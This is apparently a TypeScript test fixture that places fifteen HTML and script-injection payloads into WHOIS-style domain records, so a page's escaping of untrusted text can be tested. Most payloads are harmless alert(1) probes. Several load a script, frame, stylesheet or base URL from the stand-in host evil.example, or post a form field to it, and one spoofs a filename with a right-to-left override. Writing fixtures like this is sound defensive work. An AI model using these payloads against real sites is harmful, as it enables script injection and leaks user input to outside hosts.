/** What runs, loads or redraws where a page takes text for markup. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="http://evil.example/pixel.png">',
  '<svg onload=alert(1)>',
  '<iframe src="http://evil.example/"></iframe>',
  '"><script src=http://evil.example/x.js></script>',
  'javascript:alert(1)//\'"',
  '<link rel=stylesheet href=http://evil.example/x.css>',
  '<base href="http://evil.example/">',
  '</textarea></style></script><b id=broken>bold</b>',
  '<a href="javascript:alert(1)" id=result>x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;',
  '<form id=look-up action=http://evil.example><input name=key></form>',
  '{{constructor.constructor("alert(1)")()}} %{alert(1)}',
  '\u202egnp.exe\u202c <style>*{display:none}</style>',
];

const LABELS = [
  (text: string) => `Domain Name: shop.example\nRegistrar: ${text}\nCreation Date: 2020-01-02T00:00:00Z\n`,
  (text: string) =>
    `Domain Name: shop.example\nDomain Status: ${text}\nName Server: ns1.shop.example\n${text}: ${text}\n`,
  (text: string) =>
    `domain: shop.example\ndescr: ${text}\nperson: ${text}\naddress: ${text}\ne-mail: ${text}\n`,
  (text: string) =>
    `% ${text}\n\n${text}\nDomain Name: ${text}\nRegistrant Name: ${text}\nShoe size: ${text}\n`,
];

/** Sixty records in which a payload stands as a value, a status, a label, a contact, a notice. */
export const HOSTILE: readonly { payload: string; record: string }[] = PAYLOADS.flatMap((payload) =>
  LABELS.map((label) => ({ payload, record: label(payload) })),
);
